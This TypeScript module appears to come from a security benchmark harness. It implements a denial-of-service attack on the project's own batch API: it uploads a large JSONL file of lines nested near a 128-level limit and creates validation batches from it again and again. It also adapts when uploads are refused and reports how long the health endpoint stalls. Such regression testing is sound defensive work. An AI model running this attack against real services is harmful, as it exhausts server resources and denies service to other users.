/**
 * A batch of nested lines (issue 33): a ~100 MB JSONL input file whose lines nest just under the
 * 128-level scan limit (and, every other line, over it), uploaded once (prepare), then batches
 * created from it again and again on the attacker's own deployment: `nestedBatchesInFlight` at
 * a time, the next as soon as one has left `validating`. Each batch makes the server read and
 * check the whole file. At 4102d34 the validator ran JSON.parse on every line before the
 * nesting scan; one such file froze `/healthz` for 9.2 s, and every new batch froze it again.
 */
import http from 'node:http';
import { round, sleep, Tally, type AttackJob, type AttackReport, type HostileAttack } from '../attack';
import { call, multipartFile } from '../http-call';
import { nestedJsonl } from '../payloads';

/** The server's limits (common/json-nesting.ts MAX_JSON_DEPTH, MAX_JSON_CONTAINERS): a line past one may be refused at upload. */
const MAX_DEPTH = 128;
const MAX_CONTAINERS = 50_000;

class NestedBatches implements HostileAttack {
  private readonly agent = new http.Agent({ keepAlive: true, maxSockets: 16 });
  private readonly answers = new Tally();
  private readonly statuses = new Tally();
  private fileId = '';
  private lines = 0;
  private uploadSeconds = 0;
  /** The first upload's refusal (status and message), when the server refused the file with over-deep lines. */
  private uploadRefused = '';
  private depths: number[];
  private lineBytes = 0;
  private stopped = false;
  /** A batch still validating when the attack stops is watched until it is done, or until this (stop + 120 s). */
  private giveUpAt = Infinity;
  private startedAt = 0;
  private loops: Promise<void>[] = [];
  private created = 0;
  /** Seconds each batch spent in `validating`, as this attacker saw it by polling. */
  private readonly validatingSeconds: number[] = [];

  constructor(private readonly job: AttackJob) {
    this.depths = job.settings.nestedDepths;
  }

  private get base(): string {
    return `/d/${this.job.target.deployments[0]!.slug}/v1`;
  }

  private headers(extra: http.OutgoingHttpHeaders = {}): http.OutgoingHttpHeaders {
    return { authorization: `Bearer ${this.job.target.keys[0]}`, ...extra };
  }

  async prepare(): Promise<void> {
    const { nestedDepths } = this.job.settings;
    let answer = await this.upload(nestedDepths, this.job.settings.nestedLineBytes);
    if (answer.status === 400) {
      // Refused at upload (a line past the scan's limits): what a server that checks files does.
      // The attack goes on with the worst lines it may store: nested just under the depth limit,
      // each just under the containers limit (a nested element of depth d is d containers in 2d bytes).
      this.uploadRefused = `${answer.status}: ${answer.text.slice(0, 160)}`;
      this.depths = nestedDepths.filter((depth) => depth <= MAX_DEPTH);
      answer = await this.upload(this.depths, Math.floor(MAX_CONTAINERS * 0.98) * 2);
    }
    if (answer.status !== 200) throw new Error(`uploading the nested file: ${answer.status} ${answer.text.slice(0, 300)}`);
    this.fileId = (JSON.parse(answer.text) as { id: string }).id;
  }

  private async upload(depths: number[], lineBytes: number): Promise<{ status: number; text: string }> {
    const { nestedFileBytes } = this.job.settings;
    this.lineBytes = lineBytes;
    const file = nestedJsonl(nestedFileBytes, lineBytes, depths);
    this.lines = file.lines;
    const form = multipartFile(file.data, 'nested.jsonl');
    const startedAt = performance.now();
    const answer = await call({ port: this.job.target.port, method: 'POST', path: `${this.base}/files`, headers: this.headers({ 'content-type': form.contentType }), body: form.parts, timeoutMs: 300_000 });
    this.uploadSeconds = round((performance.now() - startedAt) / 1000);
    return answer;
  }

  async go(): Promise<void> {
    this.startedAt = performance.now();
    this.loops = Array.from({ length: this.job.settings.nestedBatchesInFlight }, () => this.loop());
  }

  private async loop(): Promise<void> {
    const body = JSON.stringify({ input_file_id: this.fileId, endpoint: '/v1/chat/completions', completion_window: '24h' });
    while (!this.stopped) {
      const answer = await call({ port: this.job.target.port, method: 'POST', path: `${this.base}/batches`, headers: this.headers({ 'content-type': 'application/json' }), body, agent: this.agent, timeoutMs: this.job.settings.timeoutMs });
      this.answers.add(answer.status === 200 ? 'batch created' : `${answer.status} ${answer.error ?? ''}`.trim());
      if (answer.status !== 200) {
        await sleep(1_000);
        continue;
      }
      this.created++;
      const id = (JSON.parse(answer.text) as { id: string }).id;
      const createdAt = performance.now();
      let status = 'validating';
      while (status === 'validating' && performance.now() < this.giveUpAt) {
        await sleep(250);
        const read = await call({ port: this.job.target.port, method: 'GET', path: `${this.base}/batches/${id}`, headers: this.headers(), agent: this.agent, timeoutMs: this.job.settings.timeoutMs });
        if (read.status === 200) status = (JSON.parse(read.text) as { status: string }).status;
      }
      if (status !== 'validating') {
        this.validatingSeconds.push(round((performance.now() - createdAt) / 1000));
        this.statuses.add(status);
        // Lines that would run on the attacker's deployment are not the point: cancel them.
        if (status === 'in_progress') await call({ port: this.job.target.port, method: 'POST', path: `${this.base}/batches/${id}/cancel`, headers: this.headers(), agent: this.agent, timeoutMs: this.job.settings.timeoutMs });
      }
    }
  }

  async stop(): Promise<AttackReport> {
    this.stopped = true;
    const seconds = (performance.now() - this.startedAt) / 1000;
    // How long the last batch takes to validate is the finding: wait for it (the benchmark's tenant is still measuring).
    this.giveUpAt = performance.now() + 120_000;
    await Promise.all(this.loops);
    this.agent.destroy();
    const { nestedFileBytes, nestedDepths } = this.job.settings;
    return {
      achieved: {
        [`file with lines nesting ${nestedDepths.join(' / ')}`]: this.uploadRefused ? `refused at upload, ${this.uploadRefused}` : 'stored',
        'file': `${round(nestedFileBytes / 1e6)} MB, ${this.lines} lines of ${round(this.lineBytes / 1024)} KiB nesting ${this.depths.join(' / ')} levels, uploaded in ${this.uploadSeconds} s (before the phase)`,
        'batches created': this.created,
        'batches validated': this.validatingSeconds.length,
        'seconds in validating (each, the last one waited for after the window)': this.validatingSeconds.join(', ') || '– (not done within 120 s after the window)',
        'status after validating': Object.entries(this.statuses.counts).map(([status, count]) => `${status} ×${count}`).join(', ') || '–',
      },
      answers: this.answers.counts, seconds: round(seconds),
    };
  }
}

export function nestedBatches(job: AttackJob): HostileAttack {
  return new NestedBatches(job);
}
